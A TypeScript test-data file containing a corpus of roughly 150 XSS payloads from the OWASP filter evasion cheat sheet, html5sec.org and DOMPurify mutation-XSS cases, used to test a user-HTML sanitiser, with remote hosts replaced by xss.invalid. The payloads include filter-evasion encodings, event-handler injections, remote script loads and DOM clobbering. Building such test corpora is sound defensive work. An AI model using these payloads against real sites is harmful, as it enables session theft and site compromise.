/**
 * Test data: hostile HTML for the user-HTML renderer (UserHtml.stories.tsx, XssCorpus story,
 * runs in Chromium). Plain strings, never executed on purpose.
 *
 * Sources:
 * - OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet"
 *   https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 *   (github.com/OWASP/CheatSheetSeries, cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md;
 *   CC BY-SA 4.0; originally RSnake's XSS cheat sheet). Vectors named by their section.
 * - HTML5 Security Cheatsheet by Cure53 (https://html5sec.org, github.com/cure53/H5SC,
 *   items.js). Vectors named by their item; the sheet's placeholders (%js_alert%,
 *   %js_uri_alert%, ...) are expanded to `alert(1)` / `javascript:alert(1)`.
 * - A few well-known DOMPurify mutation-XSS and DOM-clobbering payloads (noted as such), since
 *   the sanitiser, not a browser quirk, is what those test.
 *
 * Remote addresses point at `xss.invalid` (a reserved name that never resolves) instead of the
 * original hosts, so nothing leaves the machine even if a vector misbehaved.
 */
export interface XssVector {
  source: 'OWASP' | 'HTML5SEC' | 'DOMPurify';
  name: string;
  html: string;
}

const owasp = (name: string, html: string): XssVector => ({ source: 'OWASP', name, html });
const h5 = (name: string, html: string): XssVector => ({ source: 'HTML5SEC', name, html });
const dp = (name: string, html: string): XssVector => ({ source: 'DOMPurify', name, html });

export const XSS_CORPUS: readonly XssVector[] = [
  // ── OWASP XSS Filter Evasion Cheat Sheet ──
  owasp('Basic XSS test', '<SCRIPT SRC=https://xss.invalid/index.js></SCRIPT>'),
  owasp(
    'XSS locator (polyglot)',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  ),
  owasp('Malformed A tags', '<a onmouseover="alert(document.cookie)">xxs link</a>'),
  owasp('Malformed A tags, unquoted', '<a onmouseover=alert(document.cookie)>xxs link</a>'),
  owasp('Malformed IMG tags', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
  owasp('fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'),
  owasp('Default SRC tag', '<IMG SRC=# onmouseover="alert(\'xxs\')">'),
  owasp('Default SRC tag left empty', '<IMG SRC= onmouseover="alert(\'xxs\')">'),
  owasp('Default SRC tag left out', '<IMG onmouseover="alert(\'xxs\')">'),
  owasp('On error alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
  owasp(
    'IMG onerror and JavaScript alert encode',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ),
  owasp(
    'Decimal HTML character references',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ),
  owasp(
    'Decimal references without trailing semicolons',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  ),
  owasp(
    'Hexadecimal references without trailing semicolons',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ),
  owasp('Embedded tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'),
  owasp('Embedded encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'),
  owasp('Embedded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'),
  owasp('Embedded carriage return', '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">'),
  owasp('Null breaks up JavaScript directive', '<IMG SRC=java\0script:alert("XSS")>'),
  owasp(
    'Spaces and meta chars before JavaScript',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  ),
  owasp('Non-alpha-non-digit', '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>'),
  owasp('Non-alpha-non-digit in BODY', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
  owasp('Slash instead of space', '<SCRIPT/SRC="http://xss.invalid/xss.js"></SCRIPT>'),
  owasp('Extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
  owasp('No closing script tags', '<SCRIPT SRC=http://xss.invalid/xss.js?< B >'),
  owasp('Protocol resolution in script tags', '<SCRIPT SRC=//xss.invalid/.j>'),
  owasp('Half open HTML/JavaScript', '<IMG SRC="`<javascript:alert>`(\'XSS\')"'),
  owasp('Double open angle brackets', '<iframe src=http://xss.invalid/scriptlet.html <'),
  owasp('Escaping JavaScript escapes', "</script><script>alert('XSS');</script>"),
  owasp('End title tag', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
  owasp('INPUT image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
  owasp('BODY image', '<BODY BACKGROUND="javascript:alert(\'XSS\')">'),
  owasp('IMG dynsrc', '<IMG DYNSRC="javascript:alert(\'XSS\')">'),
  owasp('IMG lowsrc', '<IMG LOWSRC="javascript:alert(\'XSS\')">'),
  owasp(
    'List-style-image',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  ),
  owasp('VBscript in an image', '<IMG SRC=\'vbscript:msgbox("XSS")\'>'),
  owasp('Livescript', '<IMG SRC="livescript:[code]">'),
  owasp('SVG object tag', "<svg/onload=alert('XSS')>"),
  owasp('BODY tag', "<BODY ONLOAD=alert('XSS')>"),
  owasp('BGSOUND', '<BGSOUND SRC="javascript:alert(\'XSS\');">'),
  owasp('& JavaScript includes', '<BR SIZE="&{alert(\'XSS\')}">'),
  owasp('STYLE sheet', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
  owasp('Remote style sheet', '<LINK REL="stylesheet" HREF="http://xss.invalid/xss.css">'),
  owasp('Remote style sheet part 2', "<STYLE>@import'http://xss.invalid/xss.css';</STYLE>"),
  owasp(
    'Remote style sheet part 3',
    '<META HTTP-EQUIV="Link" Content="<http://xss.invalid/xss.css>; REL=stylesheet">',
  ),
  owasp(
    'Remote style sheet part 4',
    '<STYLE>BODY{-moz-binding:url("http://xss.invalid/xssmoz.xml#xss")}</STYLE>',
  ),
  owasp(
    'STYLE tags breaking up JavaScript',
    '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  ),
  owasp(
    'STYLE attribute breaking up an expression',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  ),
  owasp(
    'IMG STYLE with expressions',
    'exp/*<A STYLE=\'no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
  ),
  owasp('STYLE tag (older Netscape)', '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>'),
  owasp(
    'STYLE tag using background-image',
    '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  ),
  owasp(
    'STYLE tag using background',
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  ),
  owasp('Anonymous HTML with STYLE attribute', '<XSS STYLE="xss:expression(alert(\'XSS\'))">'),
  owasp('Local htc file', '<XSS STYLE="behavior: url(xss.htc);">'),
  owasp('US-ASCII encoding', '¼script¾alert(¢XSS¢)¼/script¾'),
  owasp('META', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
  owasp(
    'META using data',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  ),
  owasp(
    'META with additional URL parameter',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
  ),
  owasp('IFRAME', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'),
  owasp('IFRAME event based', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
  owasp('FRAME', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'),
  owasp('TABLE', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">'),
  owasp('TD', '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">'),
  owasp('DIV background-image', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'),
  owasp(
    'DIV background-image with unicoded XSS',
    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  ),
  owasp('DIV expression', '<DIV STYLE="width: expression(alert(\'XSS\'));">'),
  owasp(
    'Downlevel-hidden block',
    "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
  ),
  owasp('BASE tag', '<BASE HREF="javascript:alert(\'XSS\');//">'),
  owasp(
    'OBJECT tag',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>',
  ),
  owasp(
    'EMBED a Flash movie',
    '<EMBED SRC="http://xss.invalid/xss.swf" AllowScriptAccess="always"></EMBED>',
  ),
  owasp(
    'EMBED SVG which contains XSS',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ),
  owasp(
    'XML data island with CDATA obfuscation',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  ),
  owasp(
    'HTML+TIME in XML',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
  ),
  owasp('Script renamed as image', '<SCRIPT SRC="http://xss.invalid/xss.jpg"></SCRIPT>'),
  owasp(
    'SSI',
    '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.invalid/xss.js></SCRIPT>\'"-->',
  ),
  owasp('PHP', "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>"),
  owasp(
    'IMG embedded commands',
    '<IMG SRC="http://xss.invalid/somecommand.php?somevariables=maliciouscode">',
  ),
  owasp(
    'Cookie manipulation',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
  ),
  owasp(
    'UTF-7 encoding',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
  ),
  owasp(
    'Non-quoted attribute with script',
    '<SCRIPT a=">" SRC="http://xss.invalid/xss.js"></SCRIPT>',
  ),
  owasp('Non-quoted attribute, empty', '<SCRIPT ="blah" SRC="http://xss.invalid/xss.js"></SCRIPT>'),
  owasp(
    'Document.write split',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.invalid/xss.js"></SCRIPT>',
  ),
  owasp('URL string evasion, IP', '<A HREF="http://66.102.7.147/">XSS</A>'),
  owasp(
    'URL string evasion, JavaScript link',
    '<A HREF="javascript:document.location=\'http://xss.invalid/\'">XSS</A>',
  ),
  owasp('Anchor with entity-encoded javascript', '<a href="&#x6A;avascript:alert(1)">x</a>'),
  owasp('Anchor with mixed-case javascript', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  owasp('Anchor with leading control character', '<a href="&#1;javascript:alert(1)">x</a>'),

  // ── HTML5 Security Cheatsheet (html5sec.org) ──
  h5(
    '1: XSS via formaction',
    '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  ),
  h5('Self-executing focus event via autofocus', '<input onfocus=write(1) autofocus>'),
  h5(
    'JavaScript execution via autofocus and blur',
    '<input onblur=write(1) autofocus><input autofocus>',
  ),
  h5('Video poster attribute', '<video poster=javascript:alert(1)//></video>'),
  h5(
    '10: Body onscroll and autofocus',
    '<body onscroll=alert(1)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>',
  ),
  h5(
    'Form surveillance with onformchange',
    '<form id=test onforminput=alert(1)><input></form><button form=test onformchange=alert(2)>X</button>',
  ),
  h5('Video source onerror', '<video><source onerror="alert(1)">'),
  h5('Video onerror', '<video onerror="alert(1)"><source></source></video>'),
  h5('Form and formaction', '<form><button formaction="javascript:alert(1)">X</button>'),
  h5('frameset onload', '<frameset onload=alert(1)>'),
  h5('Table background', '<table background="javascript:alert(1)"></table>'),
  h5('17: Comment inside attribute', '<!--<img src="--><img src=x onerror=alert(1)//">'),
  h5('Comment / CDATA confusion', '<comment><img src="</comment><img src=x onerror=alert(1)//">'),
  h5('19: Style with exotic comment', '<![><img src="]><img src=x onerror=alert(1)//">'),
  h5(
    'SVG with image',
    '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>',
  ),
  h5('Style tag injected into title', '<style><img src="</style><img src=x onerror=alert(1)//">'),
  h5('Li with injected image', '<li style=list-style:url() onerror=alert(1)></li>'),
  h5(
    'Head and object',
    '<head><base href="javascript://"/></head><body><a href="/. /,alert(1)//#">XXX</a></body>',
  ),
  h5(
    '24: SVG script with unquoted attribute',
    '<SCRIPT FOR=document EVENT=onreadystatechange>alert(1)</SCRIPT>',
  ),
  h5(
    'Object data javascript',
    '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>',
  ),
  h5(
    'Object data base64',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  ),
  h5(
    'Embed src base64',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>',
  ),
  h5('Event handler with b tag', '<b <script>alert(1)//</script>0</script></b>'),
  h5('Div with trailing script', '<div id="div1"><input value="``onmouseover=alert(1)"></div>'),
  h5(
    'Iframe with srcdoc',
    '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;" />',
  ),
  h5('Iframe onload', '<iframe src="javascript:alert(1)" onload=alert(2)></iframe>'),
  h5('Select with autofocus', '<select onfocus=alert(1) autofocus>'),
  h5('Keygen with autofocus', '<keygen onfocus=alert(1) autofocus>'),
  h5('Textarea with autofocus', '<textarea onfocus=alert(1) autofocus>'),
  h5('Details ontoggle', '<details open ontoggle=alert(1)>'),
  h5('Marquee onstart', '<marquee onstart=alert(1)>x</marquee>'),
  h5('Audio source onerror', '<audio src=x onerror=alert(1)>'),
  h5('SVG animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
  h5(
    '40: SVG set href',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>',
  ),
  h5(
    'SVG use with data URL',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>",
  ),
  h5('MathML href', '<math href="javascript:alert(1)">CLICKME</math>'),
  h5(
    '43: MathML maction',
    '<math><maction actiontype="statusline#http://xss.invalid" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
  ),
  h5(
    'MathML mtext with table breakout',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  h5(
    'Xlink in SVG a',
    '<svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
  ),
  h5(
    'Link import',
    '<link rel=import href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">',
  ),
  h5(
    'Meta refresh to data URL',
    '<meta http-equiv="refresh" content="0; url=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">',
  ),
  h5('Image srcset', '<img srcset="x" onerror=alert(1)>'),
  h5('Picture source srcset', '<picture><source srcset="x"><img onerror=alert(1)></picture>'),
  h5('A with ping', '<a href="https://xss.invalid" ping="https://xss.invalid/ping">x</a>'),
  h5(
    'Anchor download attribute',
    '<a href="data:text/html,<script>alert(1)</script>" download>x</a>',
  ),
  h5('Object with SVG data', '<object data="data:image/svg+xml,<svg onload=alert(1)>"></object>'),
  h5('Template content', '<template><img src=x onerror=alert(1)></template>'),
  h5('Noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  h5('Xmp breakout', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
  h5('Noembed breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
  h5('Plaintext', '<plaintext><img src=x onerror=alert(1)>'),
  h5('Body onpageshow', '<body onpageshow=alert(1)>'),
  h5(
    'Svg onload in foreignObject',
    '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>',
  ),
  h5('Style attribute with url', '<p style="background:url(javascript:alert(1))">x</p>'),
  h5('Form action javascript', '<form action="javascript:alert(1)"><input type=submit></form>'),
  h5('Isindex action', '<isindex action="javascript:alert(1)" type=image>'),
  h5('Input formaction', '<input type="image" formaction="javascript:alert(1)" src="x">'),
  h5('Button with onclick', '<button onclick="alert(1)">x</button>'),
  h5('Event with unicode escapes', '<img src=x onerror="\\u0061lert(1)">'),
  h5('Frame srcdoc', '<frame srcdoc="<script>alert(1)</script>">'),
  h5('Portal', '<portal src="javascript:alert(1)"></portal>'),

  // ── DOMPurify mutation-XSS and DOM clobbering ──
  dp('mXSS via noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  dp('mXSS via svg/style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  dp(
    'mXSS via math/mglyph (DOMPurify 2.0.0 bypass)',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  ),
  dp(
    'mXSS via form nesting',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  ),
  dp('DOM clobbering id', '<img name=body><img id=cookie><form name=location></form>'),
  dp('DOM clobbering attributes', '<a id="attributes"></a><a id="removeAttribute"></a>'),
  dp('Comment breakout', '<p><!--</p><img src=x onerror=alert(1)>--></p>'),
  dp('Namespace confusion', '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">'),
  dp('Self-closing attribute', '<a title="/><img src=x onerror=alert(1)>">x</a>'),
  dp(
    'Processing instruction',
    '<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?><p>x</p>',
  ),
];
